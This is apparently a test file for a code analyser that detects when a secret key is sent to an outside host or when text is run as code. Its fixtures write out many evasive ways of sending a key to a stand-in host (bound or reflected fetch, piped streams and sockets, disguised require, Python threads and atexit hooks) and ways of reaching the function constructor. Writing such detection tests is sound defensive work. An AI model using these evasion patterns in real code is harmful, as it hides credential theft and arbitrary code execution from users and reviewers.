import { describe, expect, it } from 'vitest';
import { analyseSources } from './testing/analyseSources.ts';
import { type KeyProgram, keySentInJavaScript, keySentInPython } from './testing/keySent.ts';

const URL = "'https://example.invalid/' + k";
const READABLE = "require('stream').Readable.from([k])";
const REQUEST = "require('https').request('https://example.invalid')";

const JAVASCRIPT: readonly KeyProgram[] = [
  ['by Reflect.apply', '', `Reflect.apply(fetch, null, [${URL}])`, true],
  ['by the call of call', '', `Function.prototype.call.call(fetch, null, ${URL})`, true],
  ['bound', '', `fetch.bind(null, ${URL})()`, true],
  ['bound, and given more', '', "const f = fetch.bind(null, 'https://example.invalid'); f({ body: k })", true],
  ['bound to a module', '', `const h = require('https'); h.get.bind(h)(${URL})`, true],
  ['for each element', '', `[${URL}].map(fetch)`, true],
  ['for each element of a list made', '', `Array.from([${URL}], fetch)`, true],
  ['by a promise', '', `Promise.resolve(${URL}).then(fetch)`, true],
  ['by a timer', '', `setTimeout(fetch, 9, ${URL})`, true],
  ['by a library of functions', '', `require('lodash').once(fetch)(${URL})`, true],
  ['kept in a list', '', `const t = [fetch]; t[0](${URL})`, true],
  ['described', '', `Object.getOwnPropertyDescriptor(globalThis, 'fetch').value(${URL})`, true],
  ['piped', '', `${READABLE}.pipe(${REQUEST})`, true],
  ['piped through another', '', `${READABLE}.pipe(require('zlib').createGzip()).pipe(${REQUEST})`, true],
  [
    'by a pipeline',
    '',
    `require('stream').pipeline(${READABLE}, require('zlib').createGzip(), ${REQUEST}, () => {})`,
    true,
  ],
  ['piped into a socket', '', `${READABLE}.pipe(require('net').connect(1, 'example.invalid'))`, true],
  ['by a module that is asked otherwise', '', `module['req' + 'uire']('http').get(${URL})`, true],
  ['by what loads modules', '', `require('module')._load('http').get(${URL})`, true],
  ['by what a module is called with', 'const r = arguments[1];', `r('http').get(${URL})`, true],
  ['for each of other elements', '', "['https://example.invalid'].map(fetch); use(k)", false],
  ['a failure told', '', 'use(k).catch(console.error)', false],
  ['piped from elsewhere', '', `require('fs').createReadStream('a').pipe(${REQUEST}); use(k)`, false],
  [
    'an object that has it beside the key',
    'class C { constructor(k) { this.k = k; this.f = fetch; } go() { return this.f("https://example.invalid"); } }',
    'new C(k).go()',
    false,
  ],
];
const PYTHON: readonly KeyProgram[] = [
  ['for each element', '', 'list(map(requests.get, [k]))', true],
  ['in part', 'import functools', 'functools.partial(requests.get, k)()', true],
  [
    'by a thread',
    'import threading',
    "threading.Thread(target=requests.post, args=('https://example.invalid', k)).start()",
    true,
  ],
  ['by a pool', '', "pool.submit(requests.post, 'https://example.invalid', k)", true],
  ['at the end', 'import atexit', "atexit.register(requests.post, 'https://example.invalid', k)", true],
  ['in a loop of events', 'import asyncio', "asyncio.to_thread(requests.post, 'https://example.invalid', k)", true],
  [
    'with something else',
    'import threading',
    "threading.Thread(target=requests.get, args=('https://example.invalid',)).start()",
    false,
  ],
];

describe('a function from outside is called, by whatever way', () => {
  it.each(JAVASCRIPT)('%s', async (_, before, body, isSent) => {
    expect((await keySentInJavaScript(before, body)).length > 0).toBe(isSent);
  });
  it.each(PYTHON)('in Python: %s', async (_, before, body, isSent) => {
    expect((await keySentInPython(before, body)).length > 0).toBe(isSent);
  });
});

describe('the constructor of functions runs text, whatever it is called', () => {
  it.each([
    ['of a function', "(() => {}).constructor('code')()", true],
    ['of a function with a name', "function f() {} f.constructor('code')()", true],
    ['of a constructor', "''.constructor.constructor('code')()", true],
    ['of a method', "[].at.constructor('code')()", true],
    ['of what a function inherits from', "Object.getPrototypeOf(async function () {}).constructor('code')()", true],
    ['of an object', "class A { copy() { return new this.constructor('code') } }", false],
    ['of a class', "class A {} new (new A().constructor)('code')", false],
  ])('%s', async (_, text, does) => {
    const { uses } = await analyseSources({ 'a.js': `require('fs'); ${text}` });
    expect(uses.some(({ capability }) => capability === 'eval')).toBe(does);
  });
});
